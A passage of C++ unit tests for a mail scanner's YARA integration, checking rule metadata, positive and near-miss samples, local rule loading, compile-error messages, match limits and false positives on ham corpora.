    int rules = 0;
    while (std::regex_search(rest, m, rule_re)) {
      ++rules;
      const std::string name = m[1];
      const bool suspicious = m[2].matched;
      const std::size_t end = rest.find("\n}", static_cast<std::size_t>(m.position(0)));
      const std::string body = rest.substr(static_cast<std::size_t>(m.position(0)),
                                           end - static_cast<std::size_t>(m.position(0)));
      EXPECT_NE(body.find("description = \""), std::string::npos) << name;
      EXPECT_NE(body.find("source = \""), std::string::npos) << name;
      EXPECT_NE(body.find(suspicious ? "severity = \"suspicious\"" : "severity = \"threat\""),
                std::string::npos)
          << name;
      EXPECT_NE(readme.find(name), std::string::npos) << name << " is not documented";
      rest = rest.substr(end);
    }
    EXPECT_GT(rules, 0) << e.path();
  }
}

TEST(Yara, EveryShippedRuleFiresOnItsSamples) {
  ASSERT_TRUE(env().engines) << env().error;
  std::set<std::string> covered;
  for (const auto& p : positives()) {
    const Found f = yara(p.sample);
    if (p.suspicious)
      EXPECT_TRUE(f.has_symbol("YARA_SUSPICIOUS", p.rule))
          << p.rule << " / " << p.label << ": " << f.str();
    else
      EXPECT_TRUE(f.has_threat("malware", p.rule)) << p.rule << " / " << p.label << ": " << f.str();
    covered.insert(p.rule);
  }
  for (const auto& name : shipped_rule_names()) {
    if (kHashOnlyRules.count(name)) continue;
    EXPECT_TRUE(covered.count(name)) << name << " has no positive sample in this test";
  }
}

TEST(Yara, HashListSelftestSampleIsWhatTheRuleSays) {
  // The self-test hash in rules/yara/unc4841_hashes.yar is this sample's SHA-256.
  const std::string rules =
      read_file(fs::path(BULWARK_SOURCE_DIR) / "rules" / "yara" / "unc4841_hashes.yar");
  EXPECT_NE(rules.find(digest("sha256", kYaraHashSample)), std::string::npos);
  EXPECT_EQ(kYaraHashSample.size(), 54u);
}

TEST(Yara, NearMissesRaiseNothing) {
  ASSERT_TRUE(env().engines) << env().error;
  for (const auto& s : near_misses()) {
    const Found f = yara(s);
    EXPECT_TRUE(f.threats.empty() && f.symbols.empty()) << s.substr(0, 80) << ": " << f.str();
  }
  EXPECT_TRUE(yara("").threats.empty());
}

TEST(Yara, ExtraRulesDirectory) {
  ASSERT_TRUE(env().engines) << env().error;
  TempDir dir;
  write_file(dir.path / "local.yar",
             "rule Local_Threat { strings: $a = \"local-threat-marker\" condition: $a }\n"
             "rule Local_Weak : suspicious other { strings: $a = \"local-weak-marker\" "
             "condition: $a }\n");
  write_file(dir.path / "ignored.txt", "this is not a rule file {");
  auto y = load_yara(dir.path.string());
  ASSERT_TRUE(y) << y.error().message;
  EXPECT_NE(yara_describe(*y.value()).find("1 local"), std::string::npos);
  Found f = yara(*y.value(), "x local-threat-marker x local-weak-marker");
  EXPECT_TRUE(f.has_threat("malware", "Local_Threat")) << f.str();
  EXPECT_TRUE(f.has_symbol("YARA_SUSPICIOUS", "Local_Weak")) << f.str();
  // The shipped rules are still there.
  f = yara(*y.value(), kYaraHashSample);
  EXPECT_TRUE(f.has_threat("malware", "Bulwark_Hash_List_Selftest")) << f.str();
  // A local rule may reuse a shipped rule's name (separate namespaces).
  write_file(dir.path / "dup.yar", "rule Bulwark_Hash_List_Selftest { condition: false }\n");
  EXPECT_TRUE(load_yara(dir.path.string()));
}

TEST(Yara, CompileErrorsNameFileAndLine) {
  TempDir dir;
  write_file(dir.path / "good.yar", "rule Good { condition: true }\n");
  write_file(dir.path / "bad.yar",
             "rule Fine { condition: true }\n\nrule Broken {\n  condition: $nope\n}\n");
  auto y = load_yara(dir.path.string());
  ASSERT_FALSE(y);
  const std::string msg = y.error().message;
  // libyara reports the line where it noticed the error (the end of the rule).
  EXPECT_TRUE(std::regex_search(msg, std::regex(R"(bad\.yar:[45]: undefined string "\$nope")")))
      << msg;

  EXPECT_FALSE(load_yara("/nonexistent/bulwark-yara-rules"));
}

TEST(Yara, MatchesPerBlobAreBounded) {
  ASSERT_TRUE(env().engines) << env().error;
  TempDir dir;
  std::string rules;
  for (int i = 0; i < 40; ++i)
    rules += "rule Many_" + std::to_string(i) + " { strings: $a = \"zzzz\" condition: $a }\n";
  write_file(dir.path / "many.yar", rules);
  auto y = load_yara(dir.path.string());
  ASSERT_TRUE(y) << y.error().message;
  const Found f = yara(*y.value(), "zzzz");
  EXPECT_EQ(f.threats.size(), 16u) << f.str();
  EXPECT_TRUE(f.has_symbol("YARA_SUSPICIOUS", "24 more matching rules not listed")) << f.str();
}

// A sample of normal mail: neither engine raises anything on the raw message or any leaf.
TEST(Yara, SampleHamRaisesNothing) {
  ASSERT_TRUE(env().engines) << env().error;
  auto files = corpus_messages({"easy-ham-1"});
  if (files.empty()) GTEST_SKIP() << "BULWARK_CORPUS not set";
  files.resize(std::min<std::size_t>(files.size(), 60));
  const Config cfg = default_config();
  for (const auto& path : files) {
    std::string raw = read_file(path);
    Inspector insp(*env().engines, env().limits);
    const Blob whole{raw, "raw", {}, "", 0};
    scan_yara(*env().engines->yara(), whole, insp);
    scan_clamav(*env().engines->clamav(), whole, insp);
    const mime::Message m = mime::parse_message(raw, cfg.limits, cfg.mime);
    for (const auto& p : m.parts) {
      if (!p.is_leaf()) continue;
      const Blob b{p.payload, p.path, p.names, p.content_type, 0};
      scan_yara(*env().engines->yara(), b, insp);
      scan_clamav(*env().engines->clamav(), b, insp);
    }
    const Found f = collect(insp);
    EXPECT_TRUE(f.threats.empty() && f.symbols.empty()) << path << ": " << f.str();
  }
}

// The whole ham set (easy-ham-1, easy-ham-2, hard-ham-1: 4,150 messages): zero YARA
// threats on raw messages and every MIME leaf (views, embedded files included); the
// ClamAV engine never fails on them either.
TEST(Yara, HamCorpusHasNoYaraThreats) {
  ASSERT_TRUE(env().engines) << env().error;
  const auto files = corpus_messages({"easy-ham-1", "easy-ham-2", "hard-ham-1"});
  if (files.empty()) GTEST_SKIP() << "BULWARK_CORPUS not set";
  EXPECT_EQ(files.size(), 4150u);
  const Config cfg = default_config();
  std::size_t threats = 0, suspicious = 0, errors = 0, blobs = 0;
  std::map<std::string, int> by_rule;
  for (const auto& path : files) {
    std::string raw = read_file(path);
    Inspector insp(*env().engines, env().limits);
    scan_yara(*env().engines->yara(), Blob{raw, "raw", {}, "", 0}, insp);
    ++blobs;
    const mime::Message m = mime::parse_message(raw, cfg.limits, cfg.mime);
    for (const auto& p : m.parts) {
      if (!p.is_leaf()) continue;
      const Blob b{p.payload, p.path, p.names, p.content_type, 0};
      scan_yara(*env().engines->yara(), b, insp);
      scan_clamav(*env().engines->clamav(), b, insp);
      ++blobs;
    }
    for (const auto& t : insp.results().threats) {
      if (t.kind == "malware") {
        ++threats;
        ++by_rule[t.name];
        ADD_FAILURE() << path << ": " << t.name << " at " << t.location;
      }
    }
    for (const auto& s : insp.results().symbols) {
      if (s.symbol == "YARA_SUSPICIOUS") {
        ++suspicious;
        ++by_rule[s.detail + " (suspicious)"];
        std::printf("suspicious: %s: %s at %s\n", path.c_str(), s.detail.c_str(),
                    s.location.c_str());
      }
      if (s.symbol == "AV_ERROR") {
        ++errors;
        ADD_FAILURE() << path << ": " << s.detail;
      }
    }
  }
  std::printf("ham: %zu messages, %zu blobs: %zu YARA threats, %zu YARA_SUSPICIOUS, %zu AV_ERROR\n",
              files.size(), blobs, threats, suspicious, errors);
  EXPECT_EQ(threats, 0u);
  EXPECT_EQ(errors, 0u);
}
